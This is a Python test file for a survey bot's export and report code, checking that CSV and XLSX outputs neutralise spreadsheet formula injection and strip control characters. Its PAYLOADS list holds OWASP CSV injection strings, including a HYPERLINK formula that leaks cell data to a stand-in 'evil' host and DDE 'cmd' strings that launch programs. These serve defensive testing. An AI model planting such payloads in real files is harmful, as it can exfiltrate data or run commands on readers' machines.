"""Every file we hand out: respondent text never becomes a live formula, control characters never
break an XLSX, the stored text stays as it was (CSV, XLSX, quarterly report, Appendix 2, the
consent register, the files `/export` and `/report` send)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.cli.main import main
from bot.config import Settings
from bot.telegram.reports_dialog import Pick, build_file
from reports.analysis import write_report
from reports.appendix2 import write_appendix2
from reports.export import export_file
from reports.period import date_range, quarter_period
from reports.safe_cells import FORMULA_STARTS
from storage import repository as repo
from storage.schema import answers, respondents
from storage.store import Storage
from survey_flow import engine
from survey_flow.model import Questionnaire
from tests.conftest import Database
from tests.helpers import walk
from tests.reports.data import B

NSK = ZoneInfo("Asia/Novosibirsk")
WHEN = datetime(2025, 8, 15, 5, 0, tzinfo=UTC)  # inside 2025Q3 in Novosibirsk
# The OWASP CSV injection payloads, and the starts a spreadsheet reads as a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil/?d="&A3,"Подробнее")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
NEUTRAL = {"'" + p for p in PAYLOADS}
# XML reads a bare carriage return back as a line feed: the cell is still text.
NEUTRAL_XLSX = {text.replace("\r", "\n") for text in NEUTRAL}


async def _session(
    storage: Storage, q: Questionnaire, payload: str, *, respondent: int | None, channel: str
) -> int:
    """A completed questionnaire whose every free-text place holds `payload` exactly."""
    inputs = ["Другое: x", *B[1:]]  # 1(11) typed «Другое»
    found = engine.finalize(q, walk(q, inputs), WHEN)
    async with storage.transaction() as conn:
        session = await repo.create_session(
            conn, q, respondent_id=respondent, channel=channel, source="qr", source_ref=payload,
            prefill={}, now=WHEN,
        )  # fmt: skip
        await repo.sync_answers(conn, q, session.id, {}, found, WHEN)
        await repo.finish_session(conn, session.id, repo.COMPLETED, WHEN)
        # Straight into the table: the engine trims what a chat sends, a paper import or an old
        # version may not have.
        mine = answers.c.session_id == session.id
        await conn.execute(
            update(answers).where(mine, answers.c.question_code == "1").values(value_text=payload)
        )
        await conn.execute(
            update(answers).where(mine, answers.c.followup_text.is_not(None)).values(followup_text=payload)
        )
    return session.id


async def seed(storage: Storage, q: Questionnaire) -> None:
    for index, payload in enumerate(PAYLOADS):
        async with storage.transaction() as conn:
            person = await repo.get_or_create_respondent(conn, "telegram", f"77{index}", WHEN, name=payload)
            await repo.record_consent(
                conn, person.id, granted=True, channel="telegram", text_version="v1", method="staff",
                now=WHEN, recorded_by=payload,
            )  # fmt: skip
        await _session(storage, q, payload, respondent=person.id, channel="telegram")
        await _session(storage, q, payload, respondent=None, channel="offline")


async def stored_texts(storage: Storage) -> set[str]:
    async with storage.transaction() as conn:
        rows = await conn.execute(select(answers.c.value_text, answers.c.followup_text))
        names = await conn.execute(select(respondents.c.name))
        return {v for row in rows for v in row if v} | {r.name for r in names}


def xlsx_cells(path: Path) -> list[Any]:
    """Every cell of every sheet (a full load: `data_type` as Excel will read it)."""
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells: list[Any]) -> set[str]:
    texts = set()
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
            texts.add(cell.value)
    return texts


def csv_cells(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


@pytest.mark.parametrize("labels", [False, True])
async def test_export_neutralises_every_payload(
    storage: Storage, questionnaire: Questionnaire, tmp_path: Path, labels: bool
) -> None:
    await seed(storage, questionnaire)
    before = await stored_texts(storage)
    assert set(PAYLOADS) <= before
    period = date_range("2025-07-01", "2025-09-30", NSK)
    kwargs: dict[str, Any] = {"period": period, "unit": None, "labels": labels, "with_contacts": True}
    xlsx, text = tmp_path / "q3.xlsx", tmp_path / "q3.csv"
    assert await export_file(storage, questionnaire, out=xlsx, fmt="xlsx", **kwargs) == 2 * len(PAYLOADS)
    assert await export_file(storage, questionnaire, out=text, fmt="csv", **kwargs) == 2 * len(PAYLOADS)

    cells = xlsx_cells(xlsx)
    assert assert_no_formula(cells) >= NEUTRAL_XLSX
    header = [c.value for c in cells[: len(cells) // (2 + 2 * len(PAYLOADS))]]
    rows = load_workbook(xlsx, read_only=True).active.iter_rows(min_row=3, values_only=True)
    for row in rows:
        by_code = dict(zip(header, row, strict=False))
        # Our numeric codes stay numbers, the texts are neutralised in every free-text column.
        assert by_code["21"] == (2 if not labels else "Скорее не удовлетворен")
        assert isinstance(by_code["session"], int) and isinstance(by_code["18"], datetime)
        assert by_code["11"].startswith("Другое: ")  # a typed «Другое» keeps its prefix
        for code in ("23_text", "27_text", "29_text", "source_ref"):
            assert by_code[code] in NEUTRAL_XLSX, (code, by_code[code])
        if by_code["channel"] == "telegram":
            assert by_code["name"] in NEUTRAL_XLSX

    table = csv_cells(text, ";")
    for row in table:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    found = {value for row in table for value in row}
    assert found >= NEUTRAL
    assert not set(PAYLOADS) & found
    assert await stored_texts(storage) == before  # the stored text is unchanged


async def test_quarterly_report_difficulties_sheet_has_no_formula(
    storage: Storage, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    await seed(storage, questionnaire)
    out = tmp_path / "report.xlsx"
    await write_report(
        storage, questionnaire, period=quarter_period("2025Q3", NSK), unit=None, unit_label="все",
        title="3 квартал 2025", out=out,
    )  # fmt: skip
    assert_no_formula(xlsx_cells(out))
    sheet = load_workbook(out)["Сложности"]
    rows = [r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] is not None]
    assert {r[4] for r in rows} == NEUTRAL_XLSX
    assert all(isinstance(r[3], int) and isinstance(r[5], int) for r in rows)  # scores, counts: numbers
    assert sheet.cell(4, 5).data_type == "s"


async def test_appendix2_group_names_are_text(
    storage: Storage, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    await seed(storage, questionnaire)
    out = tmp_path / "app2.xlsx"
    groups = [(PAYLOADS[0], [o.code for o in questionnaire.question("2").options])]
    from reports.appendix2 import process_groups

    await write_appendix2(
        storage, questionnaire, groups=process_groups(questionnaire, groups), quarter="2025Q3",
        period=quarter_period("2025Q3", NSK), unit="1", unit_label="=1+1", out=out,
    )  # fmt: skip
    texts = assert_no_formula(xlsx_cells(out))
    assert "'" + PAYLOADS[0] in texts


def test_consent_register_export_neutralised(
    database: Database, capsys: pytest.CaptureFixture[str], questionnaire: Questionnaire,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    import asyncio

    if database.schema:
        monkeypatch.setenv("OTKLIK_DATABASE__PG_SCHEMA", database.schema)

    async def go() -> None:
        storage = await database.open()
        try:
            await seed(storage, questionnaire)
        finally:
            await storage.close()

    asyncio.run(go())
    assert main(["--database", database.url, "consents", "export"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 1 + len(PAYLOADS)
    assert all(not value.startswith(FORMULA_STARTS) for row in rows for value in row)
    assert {row[7] for row in rows[1:]} == NEUTRAL  # recorded_by


@pytest.mark.parametrize(
    "pick",
    [
        Pick(what="export", period="2025Q3", unit="*", fmt="xlsx"),
        Pick(what="export", period="all", unit="*", fmt="csv"),
        Pick(what="report", period="2025Q3", unit="*", fmt="xlsx"),
    ],
)
async def test_files_sent_by_telegram_export_and_report(
    storage: Storage, questionnaire: Questionnaire, tmp_path: Path, pick: Pick
) -> None:
    await seed(storage, questionnaire)
    path, _caption = await build_file(pick, Settings(), storage, questionnaire, tmp_path)
    if path.suffix == ".csv":
        found = {value for row in csv_cells(path, ";") for value in row}
        assert all(not value.startswith(FORMULA_STARTS) for value in found)
        assert found >= NEUTRAL
    else:
        assert assert_no_formula(xlsx_cells(path)) >= NEUTRAL_XLSX


CONTROL = "Ан\x01на\x07 \x1b[31mкрасный\x0b\x0c\x1f"
CLEANED = "Анна [31mкрасный"


async def test_control_characters_in_stored_text_are_cleaned_in_xlsx(
    storage: Storage, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    async with storage.transaction() as conn:
        person = await repo.get_or_create_respondent(conn, "telegram", "555", WHEN, name=CONTROL)
    session = await _session(storage, questionnaire, CONTROL, respondent=person.id, channel="telegram")
    period = date_range("2025-07-01", "2025-09-30", NSK)
    out = tmp_path / "control.xlsx"
    count = await export_file(
        storage, questionnaire, period=period, unit=None, out=out, fmt="xlsx", with_contacts=True
    )
    assert count == 1
    rows = list(load_workbook(out, read_only=True).active.iter_rows(values_only=True))
    by_code = dict(zip(rows[0], rows[2], strict=True))
    assert by_code["session"] == session
    assert by_code["11"] == f"Другое: {CLEANED}"
    for code in ("23_text", "name", "source_ref"):
        assert by_code[code] == CLEANED, code
    report = tmp_path / "report.xlsx"
    await write_report(
        storage, questionnaire, period=quarter_period("2025Q3", NSK), unit=None, unit_label="все",
        title="3 квартал 2025", out=report,
    )  # fmt: skip
    sheet = load_workbook(report)["Сложности"]
    assert {r[4] for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] is not None} == {CLEANED}
    async with storage.transaction() as conn:  # stored as it was
        names = [r.name for r in await conn.execute(select(respondents.c.name))]
    assert names == [CONTROL]


def test_error_value_texts_stay_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from reports.safe_cells import write_only_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(write_only_row(sheet, ["#N/A", "#DIV/0!", "=1+1", 7]))
    book.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx")["x"].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        ("#N/A", "s"),
        ("#DIV/0!", "s"),
        ("'=1+1", "s"),
        (7, "n"),
    ]
